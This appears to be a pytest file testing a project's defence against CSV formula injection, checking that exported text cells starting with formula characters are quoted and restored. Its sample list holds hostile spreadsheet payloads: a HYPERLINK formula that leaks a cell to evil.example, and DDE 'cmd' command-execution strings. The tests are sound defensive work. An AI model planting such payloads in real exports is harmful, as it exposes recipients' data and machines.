"""CSV cells a spreadsheet would run as formulas (issue 11, finding 4).

Before the fix a site named ``=HYPERLINK("http://...","open")`` was written to CSV as it
was, and a spreadsheet opening the export made it a live link (older ones ran commands
through ``=cmd|...``). Text cells starting with ``=``, ``+``, ``-``, ``@``, tab or carriage
return now get a leading quote (OWASP), numbers never do, the reader takes the quote off
again, and ``keep_formulas`` (``--keep-formulas``) writes them raw.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from explorer.cli import run_cli
from explorer.core.schema import Site, parse_site
from explorer.io.csv_cells import neutralise_cell, restore_cell
from explorer.io.exports import export_sites
from explorer.io.formats import CSV_COLUMNS, read_sites, write_sites
from tests.helpers import totals_catalogue

CAT = totals_catalogue()
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def _site(sid: str, lon: float, **text: str) -> Site:
    # Through the one validation door, so names are as a reader makes them (stripped).
    return parse_site({"id": sid, **text}, lon, 40.0, catalogue=CAT)


def _sites() -> list[Site]:
    out = [
        _site(f"s{i}", -3.5 + i, name=text, operator=text, notes=text)
        for i, text in enumerate(FORMULAS)
    ]
    out.append(_site("plain", 5.3, name="'s-Hertogenbosch", operator="-"))
    return out


def _cells(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:  # a \r inside a cell stays a \r
        return list(csv.DictReader(fh))


def test_formula_cells_are_written_quoted_and_read_back_as_they_were(tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    write_sites(path, _sites())
    rows = _cells(path)
    for row, text in zip(rows, FORMULAS, strict=False):
        assert row["notes"] == "'" + text  # notes keep their leading tab or CR
        for column in ("name", "operator"):  # stripped: "\t=1+1" is "=1+1"
            assert row[column] == "'" + text.strip()
    assert rows[0]["lon"] == "-3.5"  # a number, not a formula: never quoted
    assert rows[-1]["name"] == "'s-Hertogenbosch"  # not a formula either
    assert rows[-1]["operator"] == "'-"
    assert read_sites(path, catalogue=CAT).sites == _sites()


def test_keep_formulas_writes_them_raw(tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    assert export_sites(path, _sites(), keep_formulas=True) == len(_sites())
    rows = _cells(path)
    assert [r["notes"] for r in rows[: len(FORMULAS)]] == FORMULAS
    assert read_sites(path, catalogue=CAT).sites[:2] == _sites()[:2]


def test_other_formats_are_not_touched(tmp_path: Path) -> None:
    path = tmp_path / "s.geojson"
    write_sites(path, _sites())
    notes = [f["properties"]["notes"] for f in json.loads(path.read_text())["features"]]
    assert notes[: len(FORMULAS)] == FORMULAS


@given(st.text(max_size=20))
def test_restore_inverts_neutralise(text: str) -> None:
    written = neutralise_cell(text)
    assert restore_cell(written) == text
    assert not written[:1] or written[0] not in "=+-@\t\r"


def test_cli_convert_neutralises_unless_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "s.geojson"
    write_sites(src, _sites())
    out = tmp_path / "out.csv"
    assert run_cli(["convert", str(src), str(out)], catalogue=CAT) == 0
    assert _cells(out)[0]["name"] == "'" + FORMULAS[0]
    assert read_sites(out, catalogue=CAT).sites == _sites()
    assert run_cli(["convert", str(src), str(out), "--keep-formulas"], catalogue=CAT) == 0
    assert _cells(out)[0]["name"] == FORMULAS[0]
    capsys.readouterr()


def test_cli_timeline_csv_neutralises_region_names(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "s.geojson"
    write_sites(
        src,
        [Site("a", "A", 90.0, 40.0)],
    )
    regions = tmp_path / "r.geojson"
    regions.write_text(
        json.dumps(
            {
                "type": "Feature",
                "properties": {"name": "=1+1", "radius_m": 1000},
                "geometry": {"type": "Point", "coordinates": [90, 40]},
            }
        )
    )
    argv = ["timeline", str(src), "--regions", str(regions), "--from", "2024", "--to", "2024"]
    assert run_cli([*argv, "--csv"], catalogue=CAT) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == ["region", "date", *rows[0][2:]] and rows[1][0] == "'=1+1"
    assert run_cli([*argv, "--csv", "--keep-formulas"], catalogue=CAT) == 0
    assert list(csv.reader(io.StringIO(capsys.readouterr().out)))[1][0] == "=1+1"


def test_every_text_column_is_covered() -> None:
    """A new text column gets the same treatment without a change here."""
    from explorer.io import formats

    text_columns = [c for c in CSV_COLUMNS if c not in formats._CSV_NOT_TEXT]
    assert {"name", "operator", "tenant", "notes", "province", "prefecture"} <= set(text_columns)
    assert {"lon", "lat", "chips", "power_mw"} <= formats._CSV_NOT_TEXT
